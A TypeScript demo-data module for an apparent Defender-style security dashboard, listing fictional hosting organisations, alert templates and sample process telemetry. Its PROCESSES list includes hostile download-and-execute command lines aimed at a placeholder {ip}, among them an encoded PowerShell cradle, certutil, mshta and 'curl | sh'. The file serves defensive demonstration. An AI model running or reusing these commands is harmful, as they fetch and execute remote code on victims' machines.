/**
 * The vocabulary of the demo data. Organizations are fictional (Microsoft's sample company names)
 * and use the documentation ASNs (RFC 5398: 64496–64511, 65536–65551), matching the
 * documentation IP ranges the demo IPs come from, so no real party is named as hosting a C2.
 * Alert titles, categories, processes and action types follow what Microsoft Defender shows.
 */

export interface NetworkOrg {
  organization: string;
  isp: string;
  asn: number;
  asName: string;
  domain: string;
  carrier?: string;
  /** RIR that would hold the registration. */
  registry: 'RIPE NCC' | 'ARIN' | 'APNIC' | 'LACNIC' | 'AFRINIC';
  location: GeoPlace;
  kind: 'hosting' | 'isp' | 'mobile';
}

export interface GeoPlace {
  country: string;
  countryCode: string;
  state: string;
  city: string;
  postalCode: string;
  latitude: number;
  longitude: number;
}

export const ORGS: readonly NetworkOrg[] = [
  {
    organization: 'Northwind Cloud Hosting B.V.', isp: 'Northwind Cloud', asn: 64496, asName: 'NWCLOUD-AS', domain: 'nwcloud.example',
    registry: 'RIPE NCC', kind: 'hosting',
    location: { country: 'Netherlands', countryCode: 'NL', state: 'North Holland', city: 'Amsterdam', postalCode: '1098 XG', latitude: 52.3545, longitude: 4.9523 },
  },
  {
    organization: 'Fabrikam Datacenters GmbH', isp: 'Fabrikam Datacenters', asn: 64497, asName: 'FABRIKAM-DC', domain: 'fabrikam-dc.example',
    registry: 'RIPE NCC', kind: 'hosting',
    location: { country: 'Germany', countryCode: 'DE', state: 'Hesse', city: 'Frankfurt am Main', postalCode: '60314', latitude: 50.1109, longitude: 8.6821 },
  },
  {
    organization: 'Tailspin Networks LLC', isp: 'Tailspin Networks', asn: 64498, asName: 'TAILSPIN-NET', domain: 'tailspin-net.example',
    registry: 'ARIN', kind: 'hosting',
    location: { country: 'United States', countryCode: 'US', state: 'Virginia', city: 'Ashburn', postalCode: '20147', latitude: 39.0438, longitude: -77.4874 },
  },
  {
    organization: 'Woodgrove Hosting SRL', isp: 'Woodgrove Hosting', asn: 64499, asName: 'WOODGROVE-HOST', domain: 'woodgrove-host.example',
    registry: 'RIPE NCC', kind: 'hosting',
    location: { country: 'Romania', countryCode: 'RO', state: 'Bucharest', city: 'Bucharest', postalCode: '010011', latitude: 44.4268, longitude: 26.1025 },
  },
  {
    organization: 'Litware Internet Services Pte. Ltd.', isp: 'Litware Internet', asn: 64500, asName: 'LITWARE-SG', domain: 'litware-isp.example',
    registry: 'APNIC', kind: 'hosting',
    location: { country: 'Singapore', countryCode: 'SG', state: 'Central Singapore', city: 'Singapore', postalCode: '048583', latitude: 1.2839, longitude: 103.8515 },
  },
  {
    organization: 'Adatum Mobile S.A.', isp: 'Adatum Mobile', asn: 64501, asName: 'ADATUM-MOVEL', domain: 'adatum-mobile.example', carrier: 'Adatum Móvel',
    registry: 'LACNIC', kind: 'mobile',
    location: { country: 'Brazil', countryCode: 'BR', state: 'São Paulo', city: 'São Paulo', postalCode: '01310-100', latitude: -23.5614, longitude: -46.6559 },
  },
  {
    organization: 'Wide World Broadband Inc.', isp: 'Wide World Broadband', asn: 64502, asName: 'WWB-RESIDENTIAL', domain: 'wwbroadband.example',
    registry: 'ARIN', kind: 'isp',
    location: { country: 'United States', countryCode: 'US', state: 'Texas', city: 'Dallas', postalCode: '75201', latitude: 32.7767, longitude: -96.797 },
  },
  {
    organization: 'Proseware VPS SAS', isp: 'Proseware VPS', asn: 64503, asName: 'PROSEWARE-VPS', domain: 'proseware-vps.example',
    registry: 'RIPE NCC', kind: 'hosting',
    location: { country: 'France', countryCode: 'FR', state: 'Hauts-de-France', city: 'Roubaix', postalCode: '59100', latitude: 50.6942, longitude: 3.1746 },
  },
  {
    organization: 'Contoso Telecom Ltd', isp: 'Contoso Telecom', asn: 64504, asName: 'CONTOSO-TEL', domain: 'contoso-telecom.example',
    registry: 'RIPE NCC', kind: 'isp',
    location: { country: 'United Kingdom', countryCode: 'GB', state: 'England', city: 'London', postalCode: 'EC2A 4NE', latitude: 51.5246, longitude: -0.0794 },
  },
  {
    organization: 'Trey Research Cloud K.K.', isp: 'Trey Research Cloud', asn: 64505, asName: 'TREY-CLOUD-JP', domain: 'trey-cloud.example',
    registry: 'APNIC', kind: 'hosting',
    location: { country: 'Japan', countryCode: 'JP', state: 'Tokyo', city: 'Tokyo', postalCode: '100-0005', latitude: 35.6812, longitude: 139.7671 },
  },
  {
    organization: 'Alpine Ski House Networks AG', isp: 'Alpine Networks', asn: 64506, asName: 'ALPINE-NET-CH', domain: 'alpine-net.example',
    registry: 'RIPE NCC', kind: 'isp',
    location: { country: 'Switzerland', countryCode: 'CH', state: 'Zurich', city: 'Zurich', postalCode: '8001', latitude: 47.3769, longitude: 8.5417 },
  },
  {
    organization: 'Coho Winery Broadband Pty Ltd', isp: 'Coho Broadband', asn: 64507, asName: 'COHO-BB-AU', domain: 'coho-bb.example',
    registry: 'APNIC', kind: 'isp',
    location: { country: 'Australia', countryCode: 'AU', state: 'New South Wales', city: 'Sydney', postalCode: '2000', latitude: -33.8688, longitude: 151.2093 },
  },
  {
    organization: 'Lucerne Mobile Telecom JSC', isp: 'Lucerne Mobile', asn: 64508, asName: 'LUCERNE-MOBILE', domain: 'lucerne-mobile.example', carrier: 'Lucerne Mobile',
    registry: 'RIPE NCC', kind: 'mobile',
    location: { country: 'Kazakhstan', countryCode: 'KZ', state: 'Almaty', city: 'Almaty', postalCode: '050000', latitude: 43.2389, longitude: 76.8897 },
  },
  {
    organization: 'Margie’s Travel Hosting Ltd', isp: 'Margie’s Hosting', asn: 64509, asName: 'MARGIES-HOST', domain: 'margies-host.example',
    registry: 'AFRINIC', kind: 'hosting',
    location: { country: 'South Africa', countryCode: 'ZA', state: 'Gauteng', city: 'Johannesburg', postalCode: '2001', latitude: -26.2041, longitude: 28.0473 },
  },
];

export const FIRST_NAMES = ['Alex', 'Priya', 'Jordan', 'Mei', 'Samuel', 'Fatima', 'Lukas', 'Ana', 'Kwame', 'Olivia', 'Diego', 'Yuki', 'Noah', 'Ingrid', 'Omar', 'Chloe', 'Rahul', 'Sofia', 'Ethan', 'Zanele'];
export const LAST_NAMES = ['Kim', 'Nair', 'Smith', 'Chen', 'Okafor', 'Haddad', 'Müller', 'Silva', 'Mensah', 'Brown', 'García', 'Tanaka', 'Williams', 'Berg', 'Farouk', 'Martin', 'Gupta', 'Rossi', 'Clarke', 'Dlamini'];
export const ANALYSTS = ['alex.kim@contoso.com', 'priya.nair@contoso.com', 'jordan.smith@contoso.com', 'mei.chen@contoso.com', 'soc-tier2@contoso.com', 'ingrid.berg@contoso.com'];
export const DEPARTMENTS = ['FIN', 'HR', 'ENG', 'SALES', 'OPS', 'LEGAL', 'MKT', 'IT'];
export const SERVER_ROLES = ['SQL', 'WEB', 'DC', 'FS', 'APP', 'EXCH', 'BUILD', 'JUMP'];

export const OS_PLATFORMS: ReadonlyArray<{ platform: string; version: string; weight: number; family: 'windows' | 'server' | 'mac' | 'linux' }> = [
  { platform: 'Windows11', version: '24H2', weight: 30, family: 'windows' },
  { platform: 'Windows11', version: '23H2', weight: 15, family: 'windows' },
  { platform: 'Windows10', version: '22H2', weight: 20, family: 'windows' },
  { platform: 'WindowsServer2022', version: '21H2', weight: 10, family: 'server' },
  { platform: 'WindowsServer2019', version: '1809', weight: 6, family: 'server' },
  { platform: 'macOS', version: '15.1', weight: 10, family: 'mac' },
  { platform: 'Linux', version: 'Ubuntu 22.04', weight: 9, family: 'linux' },
];

export interface AlertTemplate {
  title: string;
  category: string;
  severities: readonly number[]; // weights for high, medium, low, informational
  detectionSource: string;
  serviceSource: string;
  mitre: readonly string[];
  description: string;
}

export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
  {
    title: 'Communication with a known command and control server', category: 'CommandAndControl', severities: [6, 3, 1, 0],
    detectionSource: 'microsoftDefenderForEndpoint', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1071.001', 'T1573'],
    description: 'A process on {device} connected to {ip}, which threat intelligence associates with command-and-control infrastructure.',
  },
  {
    title: 'Suspicious connection blocked by network protection', category: 'CommandAndControl', severities: [1, 5, 3, 1],
    detectionSource: 'smartScreen', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1071'],
    description: 'Network protection blocked an outbound connection from {device} to {ip}.',
  },
  {
    title: 'Cobalt Strike command and control detected', category: 'CommandAndControl', severities: [9, 1, 0, 0],
    detectionSource: 'microsoftDefenderForEndpoint', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1071.001', 'T1105', 'T1059.001'],
    description: 'Beaconing that matches a Cobalt Strike malleable profile was observed from {device} to {ip}.',
  },
  {
    title: 'Possible data exfiltration to an external IP', category: 'Exfiltration', severities: [5, 4, 1, 0],
    detectionSource: 'microsoftDefenderForEndpoint', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1041', 'T1048'],
    description: 'An unusually large volume of data was sent from {device} to {ip} over {port}.',
  },
  {
    title: 'Suspicious PowerShell download cradle', category: 'Execution', severities: [4, 5, 1, 0],
    detectionSource: 'microsoftDefenderForEndpoint', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1059.001', 'T1105'],
    description: 'PowerShell on {device} downloaded and ran content from {ip}.',
  },
  {
    title: 'Malicious file downloaded from a remote host', category: 'Malware', severities: [4, 4, 2, 0],
    detectionSource: 'antivirus', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1105', 'T1204.002'],
    description: 'Microsoft Defender Antivirus detected {file} downloaded from {ip} on {device}.',
  },
  {
    title: 'Password spray from a single IP address', category: 'CredentialAccess', severities: [3, 5, 2, 0],
    detectionSource: 'azureAdIdentityProtection', serviceSource: 'azureAdIdentityProtection', mitre: ['T1110.003'],
    description: 'Many accounts had failed sign-ins from {ip} in a short period.',
  },
  {
    title: 'Sign-in from an anonymous IP address', category: 'InitialAccess', severities: [0, 5, 4, 1],
    detectionSource: 'azureAdIdentityProtection', serviceSource: 'azureAdIdentityProtection', mitre: ['T1078'],
    description: '{user} signed in from {ip}, an address associated with anonymizing services.',
  },
  {
    title: 'Impossible travel activity', category: 'InitialAccess', severities: [1, 6, 3, 0],
    detectionSource: 'cloudAppSecurity', serviceSource: 'microsoftDefenderForCloudApps', mitre: ['T1078.004'],
    description: '{user} signed in from {ip} shortly after signing in from a distant location.',
  },
  {
    title: 'Suspicious inbound RDP connections', category: 'LateralMovement', severities: [2, 5, 3, 0],
    detectionSource: 'microsoftDefenderForEndpoint', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1021.001'],
    description: '{device} accepted RDP connections from {ip}, which is not a usual source for this device.',
  },
  {
    title: 'Network port scan from an external IP', category: 'Discovery', severities: [0, 3, 6, 3],
    detectionSource: 'microsoftSentinel', serviceSource: 'microsoftSentinel', mitre: ['T1046'],
    description: 'Firewall logs show {ip} probing many ports across the perimeter.',
  },
  {
    title: 'Phishing email with a link to a malicious IP', category: 'InitialAccess', severities: [3, 5, 2, 0],
    detectionSource: 'microsoftDefenderForOffice365', serviceSource: 'microsoftDefenderForOffice365', mitre: ['T1566.002'],
    description: 'A message delivered to {user} contained a link to {ip}.',
  },
  {
    title: 'Suspicious scheduled task created after remote download', category: 'Persistence', severities: [3, 5, 1, 0],
    detectionSource: 'microsoftDefenderForEndpoint', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1053.005'],
    description: 'A scheduled task on {device} runs a file downloaded from {ip}.',
  },
  {
    title: 'Connection to a known TOR exit node', category: 'CommandAndControl', severities: [0, 4, 5, 2],
    detectionSource: 'customDetection', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1090.003'],
    description: '{device} connected to {ip}, a TOR exit node listed by threat intelligence.',
  },
  {
    title: 'Anomalous DNS activity', category: 'CommandAndControl', severities: [1, 4, 4, 2],
    detectionSource: 'microsoftSentinel', serviceSource: 'microsoftSentinel', mitre: ['T1071.004'],
    description: 'DNS queries from {device} to {ip} have the pattern of DNS tunnelling.',
  },
  {
    title: 'Ransomware behavior detected in the file system', category: 'Impact', severities: [9, 1, 0, 0],
    detectionSource: 'microsoftDefenderForEndpoint', serviceSource: 'microsoftDefenderForEndpoint', mitre: ['T1486'],
    description: 'Files on {device} were encrypted shortly after a connection to {ip}.',
  },
  {
    title: 'Informational: connection to a newly registered domain', category: 'SuspiciousActivity', severities: [0, 0, 3, 7],
    detectionSource: 'customDetection', serviceSource: 'microsoftSentinel', mitre: [],
    description: '{device} connected to {ip}, which serves a domain registered less than 30 days ago.',
  },
];

export const INCIDENT_TITLES = [
  'Multi-stage incident involving Command and control & Execution on multiple endpoints',
  'Command and control incident on one endpoint',
  'Initial access incident involving one user',
  'Multi-stage incident involving Initial access & Exfiltration',
  'Ransomware activity on multiple endpoints',
  'Credential access incident involving multiple users',
  'Suspicious network activity reported by multiple sources',
];

export const INVESTIGATION_STATES = ['successfullyRemediated', 'benign', 'running', 'pendingApproval', 'partiallyRemediated', 'unsupportedAlertType', 'queued', 'terminatedByUser', 'partiallyInvestigated'];

export interface ProcessTemplate {
  fileName: string;
  folder: string;
  commandLine: string;
  families: ReadonlyArray<'windows' | 'server' | 'mac' | 'linux'>;
  port: number;
  file?: string;
  url?: string;
}

export const PROCESSES: readonly ProcessTemplate[] = [
  {
    fileName: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', families: ['windows', 'server'], port: 443,
    commandLine: 'powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB7AGkAcAB9AC8AYQAnACkA',
  },
  {
    fileName: 'rundll32.exe', folder: 'C:\\Windows\\System32', families: ['windows', 'server'], port: 443,
    commandLine: 'rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\msupd.dll,DllRegisterServer', file: 'msupd.dll',
  },
  {
    fileName: 'certutil.exe', folder: 'C:\\Windows\\System32', families: ['windows', 'server'], port: 80,
    commandLine: 'certutil.exe -urlcache -split -f http://{ip}/payload.txt C:\\ProgramData\\p.txt', file: 'payload.txt', url: 'http://{ip}/payload.txt',
  },
  {
    fileName: 'curl.exe', folder: 'C:\\Windows\\System32', families: ['windows', 'server'], port: 8080,
    commandLine: 'curl.exe -s -k -o %TEMP%\\a.bin https://{ip}:8080/a.bin', file: 'a.bin', url: 'https://{ip}:8080/a.bin',
  },
  {
    fileName: 'msedge.exe', folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', families: ['windows'], port: 443,
    commandLine: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none', file: 'Invoice_48213.iso', url: 'https://cdn-update.{domain}/dl/Invoice_48213.iso',
  },
  {
    fileName: 'svchost.exe', folder: 'C:\\Windows\\System32', families: ['windows', 'server'], port: 443,
    commandLine: 'svchost.exe -k NetworkService -p -s Dnscache',
  },
  {
    fileName: 'wscript.exe', folder: 'C:\\Windows\\System32', families: ['windows'], port: 443,
    commandLine: 'wscript.exe //B //E:jscript C:\\Users\\{user}\\Downloads\\Invoice_48213.js', file: 'Invoice_48213.js',
  },
  {
    fileName: 'mshta.exe', folder: 'C:\\Windows\\System32', families: ['windows'], port: 80,
    commandLine: 'mshta.exe http://{ip}/update.hta', url: 'http://{ip}/update.hta',
  },
  {
    fileName: 'sqlservr.exe', folder: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn', families: ['server'], port: 1433,
    commandLine: '"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER',
  },
  {
    fileName: 'curl', folder: '/usr/bin', families: ['mac', 'linux'], port: 443,
    commandLine: '/bin/sh -c "curl -fsSL https://{ip}/i.sh | sh"', file: 'i.sh', url: 'https://{ip}/i.sh',
  },
  {
    fileName: 'python3', folder: '/usr/bin', families: ['linux'], port: 4444,
    commandLine: '/usr/bin/python3 /tmp/.cache/agent.py --beacon 300 --jitter 0.2',
  },
  {
    fileName: 'osascript', folder: '/usr/bin', families: ['mac'], port: 443,
    commandLine: 'osascript -e do shell script "curl -s https://{ip}/m | bash"',
  },
];

export const ACTION_TYPES_OUT = ['ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionFailed', 'ConnectionAttempt', 'HttpConnectionInspected', 'SslConnectionInspected'];
export const ACTION_TYPES_IN = ['InboundConnectionAccepted', 'ConnectionRequest', 'ListeningConnectionCreated'];

export const LOG_SOURCES = ['DeviceNetworkEvents', 'CommonSecurityLog', 'SigninLogs', 'DeviceEvents', 'Syslog', 'AzureDiagnostics'];

export const DEVICE_GROUPS = ['All devices', 'Servers – Production', 'Workstations – Finance', 'Workstations – Engineering', 'Domain controllers', 'macOS fleet', 'Linux build agents'];
